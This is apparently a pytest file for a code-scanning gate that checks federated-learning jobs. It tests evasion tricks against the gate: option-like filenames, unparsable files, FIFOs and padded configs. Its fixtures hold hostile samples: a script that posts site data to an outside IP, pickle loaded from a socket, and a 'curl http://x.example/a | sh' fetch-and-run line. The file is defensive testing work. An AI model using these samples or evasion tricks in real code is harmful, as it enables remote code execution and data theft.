"""Session 39's attacks on the gate itself, by an author who has read the engines' and the collector's code:
a file named like an option of the engine the gate starts, a file an engine gives up on, a FIFO the ranking
of a unit's files would open, and a file swapped for a FIFO between the site's listing and its hash. Each
leaves the decision and every other finding standing."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine import collect as collect_mod
from analyzer.model import Decision
from conftest import ROOT, run_cli

# Site data read and posted out: semgrep's own rule (site-data-sent-over-http) and jobgate's rules both see it.
UPLOADER = (
    "import requests\n\n"
    "def upload(path):\n"
    "    data = open(path).read()\n"
    "    requests.post('http://10.0.0.1/u', data=data)\n\n"
    "upload('/data/site/train.csv')\n"
)


def _scan(target: Path, *engines: str) -> tuple[int, dict]:
    args = ["scan", "--no-cache", "--format", "json", str(target)]
    for engine in engines:
        args += ["--engines", engine]
    proc = run_cli(*args, timeout=600)
    assert proc.returncode in (0, 1, 3), proc.stderr[-2000:]
    return proc.returncode, json.loads(proc.stdout)["reports"][0]


def _found(report: dict) -> set[tuple[str, str, str]]:
    return {(f["engine"], f["rule"], f["path"]) for f in report["findings"]}


@pytest.mark.skipif(not Path(sys.executable).with_name("semgrep").exists(), reason="semgrep not installed")
def test_a_file_named_like_a_semgrep_option_is_scanned_not_obeyed(tmp_path: Path) -> None:
    """`-ox.py` beside the payload was semgrep's `-o x.py`: its results went to a file, its second opinion
    was lost (an engine failure in its place). Paths now follow `--`."""
    (tmp_path / "train.py").write_text(UPLOADER)
    (tmp_path / "-ox.py").write_text("LEARNING_RATE = 0.01\n")
    code, report = _scan(tmp_path, "semgrep")
    assert code == 1 and report["decision"] == "reject"
    found = _found(report)
    assert ("semgrep", "semgrep.site-data-sent-over-http", "train.py") in found
    assert ("jobgate", "network.http-client", "train.py") in found
    assert not any(rule == "unanalyzable.engine-semgrep" for _, rule, _ in found)


def test_a_file_bandit_gives_up_on_is_bandits_failure_and_every_other_finding_stands(tmp_path: Path) -> None:
    """bandit skips a file it cannot parse and said nothing of it: the site asked for its opinion of every
    file, so the skipped one is bandit's own failure finding, named, beside what both engines found."""
    (tmp_path / "train.py").write_text(
        "import pickle\nimport socket\n\n"
        "def receive_weights(sock):\n    return pickle.loads(sock.recv(1 << 20))\n\n"
        "weights = receive_weights(socket.create_connection(('10.0.0.1', 9000)))\n")
    (tmp_path / "legacy_metrics.py").write_text("def report(acc):\n    print \"accuracy\", acc\n")
    code, report = _scan(tmp_path, "bandit")
    assert code == 1 and report["decision"] == "reject"
    found = _found(report)
    assert ("bandit", "unanalyzable.engine-bandit", "legacy_metrics.py") in found
    assert ("jobgate", "unanalyzable.parse-error", "legacy_metrics.py") in found
    assert {("bandit", "bandit.B301", "train.py"), ("jobgate", "deserialization.untrusted-pickle", "train.py"),
            ("jobgate", "network.raw-socket", "train.py")} <= found


def test_ranking_a_units_files_never_opens_a_fifo_or_device(tmp_path: Path, monkeypatch) -> None:
    """The read order peeks at every listed entry's first bytes; a FIFO (or a device: a watchdog starts on
    open) is reported as a special file and never opened, also not to rank it."""
    (tmp_path / "train.py").write_text('import os\nos.system("curl http://x.example/a | sh")\n')
    os.mkfifo(tmp_path / "stage.py")
    opened: list[str] = []
    real_open = os.open
    monkeypatch.setattr(collect_mod.os, "open", lambda path, *a, **k: opened.append(str(path)) or real_open(path, *a, **k))
    report = api.scan(tmp_path, api.load_policy())
    assert str(tmp_path / "stage.py") not in opened
    assert report.decision is Decision.REJECT
    rules = {(f.rule, f.path) for f in report.findings}
    assert {("unanalyzable.special-file", "stage.py"), ("remote-code.fetch-and-run-command", "train.py")} <= rules


def test_a_deployed_file_swapped_for_a_fifo_is_a_change_not_a_hang(tmp_path: Path) -> None:
    """The job route hashes the app folder to compare it with the deploy record. A file that became a FIFO
    after the listing's lstat was opened blocking (the job process hung before NVFlare built anything):
    now it is never waited on and differs from the record."""
    from handler import snapshot

    app = tmp_path / "app_site-1"
    (app / "custom").mkdir(parents=True)
    (app / "custom" / "train.py").write_text("x = 1\n")
    before = snapshot.listing(app)
    (app / "custom" / "train.py").unlink()
    os.mkfifo(app / "custom" / "train.py")
    hashed: list[str] = []
    worker = threading.Thread(target=lambda: hashed.append(snapshot._sha256(str(app / "custom" / "train.py"))),
                              daemon=True)
    worker.start()
    worker.join(10)
    assert hashed == ["special"]
    assert snapshot.differences(before, snapshot.listing(app)) == ["custom/train.py"]


def test_a_semgrep_error_on_one_file_keeps_what_semgrep_found_on_the_others(tmp_path: Path, monkeypatch) -> None:
    """semgrep reports a rule that timed out on one file in `errors`, beside its results on the others: the
    error was raised and took every result with it (an engine failure alone); now both stand."""
    from analyzer.engine.engines import semgrep_engine

    (tmp_path / "train.py").write_text(UPLOADER)
    (tmp_path / "augment.py").write_text("SCALE = 0.5\n")
    answer = {"results": [{"check_id": "rules.site-data-sent-over-http", "path": "train.py",
                           "start": {"line": 5, "col": 5},
                           "extra": {"severity": "ERROR", "message": "site data sent over HTTP",
                                     "metadata": {"category": "file-exfiltration"}}}],
              "errors": [{"level": "warn", "type": "Timeout", "message": "Timeout when running a rule on augment.py"}]}
    fake = tmp_path / "fake-semgrep"
    fake.write_text(f"#!{sys.executable}\nprint({json.dumps(json.dumps(answer))})\n")
    fake.chmod(0o755)
    monkeypatch.setattr(semgrep_engine, "_semgrep", lambda: str(fake))
    policy = api.load_policy().model_copy(update={"engines": ("semgrep",)})
    report = api.scan(tmp_path, policy)
    assert report.decision is Decision.REJECT
    found = {(f.engine, f.rule, f.path) for f in report.findings}
    assert {("semgrep", "semgrep.site-data-sent-over-http", "train.py"), ("semgrep", "unanalyzable.engine-semgrep", ""),
            ("jobgate", "network.http-client", "train.py")} <= found


def test_configs_of_distinct_words_cost_the_sites_process_no_more_than_the_names_it_lists(tmp_path: Path) -> None:
    """Collection runs in the site's own NVFlare process (api.gate), outside the limited worker. It keeps the
    names the unit's configs mention (a launcher's `python3 custom/train.txt`): every distinct word of up to
    max_total_bytes of configs was kept, 2 GB for 70 MB of padding; now only the names of listed files."""
    job = tmp_path / "job"
    (job / "app" / "config").mkdir(parents=True)
    (job / "app" / "custom").mkdir()
    (job / "meta.json").write_text(json.dumps({"name": "pad", "deploy_map": {"app": ["@ALL"]}}))
    (job / "app" / "config" / "config_fed_client.json").write_text(json.dumps(
        {"format_version": 2, "components": [{"id": "launcher", "path": "nvflare.app_common.launchers."
                                              "subprocess_launcher.SubprocessLauncher",
                                              "args": {"script": "python3 -u custom/train.txt"}}]}))
    (job / "app" / "custom" / "train.txt").write_text('import os\nos.system("curl http://x.example/a | sh")\n')
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    words = (a + b + c + d for a in alphabet for b in alphabet for c in alphabet for d in alphabet)
    for i in range(12):  # 12 configs of 1.9 MB (under max_file_bytes), 4.6 million distinct words
        (job / "app" / "config" / f"augment_{i:02d}.conf").write_text(" ".join(next(words) for _ in range(380_000)))
    probe = ("import json, resource, sys\nfrom analyzer import api\n"
             "content = api.collect(sys.argv[1], api.load_policy().limits)\n"
             "print(json.dumps([resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, sorted(content.data)]))\n")
    proc = subprocess.run([sys.executable, "-c", probe, str(job)], cwd=ROOT, capture_output=True, timeout=600)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    peak_mb, read = json.loads(proc.stdout)
    print(f"collect's peak: {peak_mb} MB")
    assert "app/custom/train.txt" in read and len(read) == 14  # every file read, the launched script too
    assert peak_mb < 500, peak_mb  # 719 MB before; 123 MB in a worktree, 355 MB in a fresh-clone CI run
